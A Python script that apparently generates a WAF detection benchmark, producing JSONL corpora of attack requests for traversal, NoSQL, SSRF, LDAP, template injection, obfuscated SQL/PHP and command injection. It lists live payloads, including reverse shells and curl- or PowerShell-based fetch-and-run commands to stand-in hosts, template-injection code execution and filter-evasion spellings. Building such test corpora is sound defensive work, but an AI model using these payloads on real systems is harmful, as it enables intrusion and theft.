#!/usr/bin/env python3
"""Attacks written by generators for the classes issue 18 names as weak
(traversal with exotic encodings, NoSQL operators, LDAP filters, SSRF in any
spelling, template injection), for obfuscated SQL and PHP calls, and for
command injection, the corpus's weakest class (`commands`): forms
taken from the classes' documented techniques and crossed with encodings,
depths, fields and transports, never from the evaluation corpus. Every
request is an attack. The `commands` rules were mended on its values of even
index only (requests 4k+1 and 4k+2); the odd ones are the measure. One JSONL file per set in `waf_corpora.py`'s format,
and all.jsonl:

    python3 benches/waf_generated.py target/waf-generated
    CORPUS=target/waf-generated/all.jsonl bash benches/waf_detection.sh
    bash benches/waf_compare.sh REV target/waf-generated/nosql.jsonl
"""
import base64
import itertools
import json
import os
import random
import re
import sys
import urllib.parse

from waf_request import Client

CLIENT = Client("waf-generated")
get, post_json, post_form = CLIENT.get, CLIENT.post_json, CLIENT.post_form


def as_query_and_json(field, values):
    for v in values:
        yield from CLIENT.query_and_json(v, "/search", field)


# dotdotpwn's approach: dot and separator encodings x depth x target file.
DOTS = ["..", "%2e%2e", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "%c0%2e%c0%2e", "%uff0e%uff0e",
        "%u002e%u002e", ".%2e", "%2e.", "..%00", "%%32%65%%32%65", "0x2e0x2e", "%f0%80%80%ae%f0%80%80%ae", "....",
        ".%252e", "..%c0%af.."]
SLASHES = ["/", "\\", "%2f", "%5c", "%252f", "%255c", "%c0%af", "%c0%5c", "%e0%80%af", "%u2215", "%u2216", "%uefc8",
           "%uf025", "%ef%bc%8f", "..%2f", "/./", "//", "%c1%1c", "%c1%9c", "0x2f", "%25c0%25af"]
TARGETS = ["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "etc/issue", "WEB-INF/web.xml",
           "proc/self/environ", "var/log/apache2/access.log"]


def traversal():
    rng = random.Random(24)
    for d, s in itertools.product(DOTS, SLASHES):
        for depth in (3, 6):
            t = rng.choice(TARGETS)
            path = (d + s) * depth + (t.replace("/", s) if rng.random() < 0.5 else t)
            path = path.replace("\\", "%5c")
            yield get("/get?file=" + path.replace(" ", "%20"))
            yield get("/static/" + path)


NOSQL_OPERATORS = ["ne", "gt", "gte", "lt", "regex", "nin", "exists", "in", "where", "eq", "not", "lte"]
NOSQL_VALUES = {"regex": "^a.*", "exists": "true", "where": "sleep(100)", "in": "admin"}
NOSQL_STRINGS = [
    "' || 1==1//", "' || '1'=='1", "'; return true; var x='", "';sleep(5000);'", "1; while(true){}",
    "admin' && this.password.match(/.*/)//", "true, $where: '1 == 1'", ", $where: '1 == 1'", "$where: '1 == 1'",
    "' } ], $comment:'successful MongoDB injection'", "db.injection.insert({success:1});", "|| 1==1",
    "';return 'a'=='a' && ''=='", "\";return(true);var xyz='a", "0;return true", "1' ; sleep(5000); '",
    "this.password.match(/^a/)", "function(){return true}", "{\"$gt\": \"\"}", "{\"$ne\": null}",
    "'$or': [ {}, { 'a':'a' } ]", "[$ne]=1", "{$where: 'sleep(1000)'}", "db.getCollectionNames()",
    "admin'||'a'=='a", "a'; db.users.drop(); var b='",
]


def nosql():
    """Operators in bracketed query and form names (as qs and PHP parse
    them), percent-encoded, as JSON keys (also `\\u0024`-escaped), and
    server-side JavaScript in strings."""
    for field in ["username", "user", "login", "email", "password", "id"]:
        for op in NOSQL_OPERATORS:
            v = NOSQL_VALUES.get(op, "x")
            yield get(f"/login?{field}[${op}]={urllib.parse.quote(v)}")
            yield get("/login?" + urllib.parse.quote(f"{field}[${op}]") + "=" + urllib.parse.quote(v))
            yield post_form(f"{field}%5B%24{op}%5D={urllib.parse.quote(v)}&other=1")
            yield post_json({field: {f"${op}": None if op in ("ne", "gt") else v}})
            yield post_json('{"%s": {"\\u0024%s": ""}}' % (field, op))
    yield get("/login?user[$nin][]=admin&user[$nin][]=root&pass[$ne]=1")
    yield get("/login?login[$gt]=admin&login[$lt]=test&pass[$ne]=1")
    for s in NOSQL_STRINGS:
        yield get("/search?q=" + urllib.parse.quote(s))
        yield post_json({"username": s})
    yield post_json({"$where": "this.credits == this.debits"})
    yield post_json({"username": {"$regex": "^adm"}, "password": {"$ne": ""}})
    yield post_json({"$or": [{"username": "admin"}, {"a": {"$gt": ""}}]})
    yield post_json({"filter": {"$where": "function(){return true}"}})
    yield post_json({"user": {"$elemMatch": {"role": "admin"}}})
    yield post_json({"age": {"$expr": {"$gt": ["$spent", "$budget"]}}})


SSRF_HOSTS = [
    "127.0.0.1", "localhost", "2130706433", "0177.0.0.1", "0x7f000001", "0x7f.0.0.1", "127.1", "127.0.1", "[::1]",
    "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "0", "0.0.0.0", "[::]", "169.254.169.254", "2852039166",
    "0xa9fea9fe", "0251.0376.0251.0376", "[fd00:ec2::254]", "metadata.google.internal", "169.254.170.2", "10.0.0.1",
    "192.168.1.1", "172.16.0.5", "127.000.000.001", "%31%32%37.0.0.1", "127\u30020\u30020\u30021",
    "\u2460\u2461\u2466.\u24ea.\u24ea.\u2460", "[::ffff:a9fe:a9fe]", "0x7f.1", "017700000001",
    "localhost.localdomain", "127.127.127.127", "100.100.100.200", "[fe80::1]",
]
SSRF_URLS = [
    "http://evil@127.0.0.1/", "http://127.0.0.1#@evil.com/", "http://evil.com@169.254.169.254/",
    "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stats", "file:///etc/passwd", "http://127.0.0.1:22/",
    "http://localhost:2375/containers/json", "//127.0.0.1/admin", "http:/\\127.0.0.1/", "http://[::]:80/",
    "http://0x7f.0x0.0x0.0x1/", "ldap://127.0.0.1:389/", "tftp://10.0.0.1/x", "http://127.0.0.1.nip.io/",
]


def ssrf():
    for host in SSRF_HOSTS:
        for path in ["/", "/latest/meta-data/iam/security-credentials/", "/admin"]:
            for scheme in ["http://", "https://"]:
                url = scheme + host + path
                yield get("/fetch?url=" + urllib.parse.quote(url, safe=""))
                yield post_json({"webhook": url})
    for url in SSRF_URLS:
        yield get("/fetch?url=" + urllib.parse.quote(url, safe=""))
        yield post_json({"callback_url": url})


LDAP_FILTERS = [
    '*)(uid=*))(|(uid=*',
    'admin*)((|userPassword=*)',
    '*)(objectClass=*',
    'x)(|(cn=*',
    'admin)(&)',
    '*)(|(mail=*))',
    'admin)(!(&(1=0',
    '*)(&(objectClass=user)(description=*',
    'jsmith)(|(password=*)',
    '*))%00',
    ')(cn=*))\\x00',
    "*()|&'",
    'admin)(|(objectclass=*)',
    '*)(userPassword=*)',
    'x*)(|(&(uid=admin)(userPassword=a*))',
    'eve)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)',
    '*)(uid=*)(|(uid=*',
    'admin))(|(|',
    '(&(uid=*)(userPassword=*))',
    '*)(sn=*',
    'void)(objectClass=void))(&(objectClass=void',
    'printer)(uid=*)',
    '*)(cn=*)(|(cn=*',
    '*))(|(objectClass=*',
    'admin)(password=*))(|(password=*',
    '*)(ou=*',
    'guest)(&(uid=admin)',
    '*)(|(telephoneNumber=*',
    'a*)(|(userPassword=*)(cn=*',
    '*)(mail=*@*',
]


TEMPLATES = [
    '{{7*7}}',
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '${{7*7}}',
    '{{config}}',
    '{{config.items()}}',
    '{{self}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '{% debug %}',
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '{{range.constructor("return global.process.mainModule.require(\'child_process\').execSync(\'id\')")()}}',
    '*{7*7}',
    '@(7*7)',
    '{{= 7*7}}',
    '<%- 7*7 %>',
    '{php}echo `id`;{/php}',
    "{system('id')}",
    "{{lipsum.__globals__.os.popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{''|attr('\\x5f\\x5fclass\\x5f\\x5f')}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    '${self.module.cache.util.os.system("id")}',
    '<%import os%>${os.system("id")}',
    "{% import os %}{{os.system('id')}}",
    '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "<%= system('id') %>",
    '<%= `id` %>',
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "{{['id']|filter('system')}}",
    "{{['id']|map('system')|join}}",
    '${applicationScope}',
    "#{session.getAttribute('user')}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{url_for.__globals__['current_app'].config}}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{joiner.__init__.__globals__.os.popen('id').read()}}",
    '${"freemarker.template.utility.Execute"?new()("id")}',
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    '{{ dump(app) }}',
    "{{app.request.server.all|join(',')}}",
    "{% set cmd = 'id' %}{% set output = cmd|system %}",
    "${__import__('os').popen('id').read()}",
    '{{"".__class__.__base__.__subclasses__()[133].__init__.__globals__[\'popen\'](\'id\').read()}}',
    '<#list .data_model?keys as key>${key}</#list>',
    "{{7*'7'}}",
    '{{ 7 * 7 }}',
    '${ 7*7 }',
    '{{4*4}}[[5*5]]',
    "{{=global.process.mainModule.require('child_process').execSync('id')}}",
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "{{ ''.constructor.constructor('alert(1)')() }}",
    "{{$on.constructor('alert(1)')()}}",
    "{{ x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)'); }}",
]


OBFUSCATED = [
    "1 and 'a'='a' --",
    "1 or 'x'='x' #",
    "1 union select 'a','b' --",
    '-1 union select "x" --',
    "1) or ('a')=('a') --",
    '1 and "1"="1";--',
    "2 or 'abc' like 'a%' --",
    "1 and ascii(substring((select 'a'),1,1))>64 --",
    "1 and 'x'='y' union select user() #",
    "0 or '1' --",
    "'.getenv('HOME').'",
    '".print_r(scandir(\'/\'))."',
    "1;print_r(file('/etc/passwd'));",
    '${print_r(getcwd())}',
    '{${print_r(get_defined_vars())}}',
    "');var_dump(scandir('.'));//",
    "<?=getenv('PATH')?>",
    '"]);print_r(glob(\'*\'));//',
    "x').chr(65).chr(66).('",
    '$a=chr(115).chr(121).chr(115);',
    '1 union/**/select/**/1,2,3',
    "admin'/*",
    "admin'/* comment */ or '1'='1",
    '1/*foo*/union/*bar*/select/*baz*/password/*x*/from/*y*/users',
    "x' union/*!50000select*/ 1,2--",
    'id=1/*/union/*/select/*/1,2',
    '1 or 1=1/*',
    'users/* x */ or 1=1--',
    "-1' union select 1,table_name from information_schema.tables/*",
    '1;drop table users/*',
    "' or 1=1 /*",
    "a'/**/or/**/'1'='1",
]


# Command injection as commix documents its techniques (classic separators,
# substitution, time- and file-based probes) and as shell obfuscators spell
# commands past filters (IFS, braces, quotes, backslashes, globs, variable
# slices, ANSI-C hex, base64 and reversed pipelines), Windows' cmd and
# PowerShell too: prefix x separator x command x spelling, sampled.
CMD_PREFIXES = ["", "127.0.0.1", "x", "1", "'", '"', "report.pdf", "8.8.8.8 "]
CMD_SEPARATORS = [";{}", "|{}", "||{}", "&{}", "&&{}", "\n{}", "`{}`", "$({})", ";{};", "|{}|", "\r\n{}",
                  "%0a{}", "& {} &", "; {} #", "$(`{}`)", "\n{}\n"]
UNIX_COMMANDS = [
    "id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "sleep 5", "ping -c 10 127.0.0.1",
    "nslookup x.attacker.example", "curl http://attacker.example/x.sh|sh", "wget -qO- http://10.0.0.1/s|bash",
    "nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "echo cartorio>/tmp/pwn",
    "cat /proc/self/environ", "head -c 100 /etc/shadow", "perl -e 'print 1'", "python3 -c 'import os'",
    "find / -perm -4000", "env", "busybox nc 10.0.0.1 9 -e sh", "rm -rf /tmp/x", "touch /tmp/x",
    "echo $((7*7))", "uname", "hostname", "ifconfig", "netstat -an", "ps aux",
]
WINDOWS_COMMANDS = [
    "dir", "type C:\\Windows\\win.ini", "whoami /all", "net user", "ipconfig /all", "ping -n 10 127.0.0.1",
    "powershell -enc SQBFAFgA", "cmd /c ver", "certutil -urlcache -f http://10.0.0.1/x x.exe",
    "powershell IEX(New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')", "systeminfo", "tasklist",
    "w^h^o^a^m^i", "%COMSPEC% /c dir", "set", "timeout /t 5",
]


def spellings(command, rng):
    """The command as an obfuscator would write it (several of the forms)."""
    word, _, rest = command.partition(" ")
    forms = [command, command.replace(" ", "${IFS}"), command.replace(" ", "$IFS$9"), command.replace(" ", "\t"),
             command.replace(" ", "%09"),
             "{" + ",".join(command.split(" ")) + "}" if " " in command and "'" not in command else command,
             word[0] + "'" + word[1:] + "'" + (" " + rest if rest else ""),
             word[0] + '"' + word[1:2] + '"' + word[2:] + (" " + rest if rest else ""),
             "\\".join(word) + (" " + rest if rest else ""),
             word[:1] + "$@" + word[1:] + (" " + rest if rest else ""),
             command.replace("/", "${PATH:0:1}") if "/" in command else "$(printf " + word + ")",
             "$'" + "".join("\\x%02x" % ord(c) for c in word) + "'" + (" " + rest if rest else ""),
             "echo " + base64_of(command) + "|base64 -d|sh", "echo '" + command[::-1] + "'|rev|sh",
             re.sub(r"/(\w)\w*", lambda m: "/" + m.group(1) + "??", command) if "/" in command else command,
             command.replace(" /", "</") if " /" in command else command]
    return rng.sample(sorted(set(forms)), 4)


def base64_of(text):
    return base64.b64encode(text.encode()).decode()


def commands():
    rng = random.Random(28)
    values = []
    for command in UNIX_COMMANDS:
        for spelled in spellings(command, rng):
            for sep in rng.sample(CMD_SEPARATORS, 3):
                values.append(rng.choice(CMD_PREFIXES) + sep.format(spelled) + rng.choice(["", "", "#", "'", '"']))
    for command in WINDOWS_COMMANDS:
        for sep in rng.sample(["&{}", "|{}", "&&{}", "||{}", "\r\n{}", "%0a{}", "& {}", "| {} |"], 4):
            values.append(rng.choice(CMD_PREFIXES) + sep.format(command))
    for v in values:
        # `%0a` and `%09` are written percent-encoded in the query, as the
        # character they stand for in JSON.
        field = rng.choice(["host", "ip", "file", "cmd", "name", "target", "filename"])
        query = urllib.parse.quote(v, safe="").replace("%250a", "%0a").replace("%2509", "%09")
        yield get(f"/tools?{field}={query}")
        yield post_json({field: v.replace("%0a", "\n").replace("%09", "\t")})


SETS = {
    "traversal": traversal,
    "nosql": nosql,
    "ssrf": ssrf,
    "ldap": lambda: as_query_and_json("user", LDAP_FILTERS),
    "ssti": lambda: as_query_and_json("name", TEMPLATES),
    "obfuscated": lambda: as_query_and_json("id", OBFUSCATED),
    "commands": commands,
}


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "target/waf-generated"
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "all.jsonl"), "w") as everything:
        for name, build in SETS.items():
            with open(os.path.join(out, name + ".jsonl"), "w") as f:
                n = 0
                for n, r in enumerate(build(), 1):
                    r = {"id": f"{name}:{n}", "class": f"gen/{name}", "label": "attack", "rule": 0,
                         "source": name, "part": "-", "body": None, **r}
                    line = json.dumps(r) + "\n"
                    f.write(line)
                    everything.write(line)
            print(f"{name}: {n} requests")


if __name__ == "__main__":
    main()
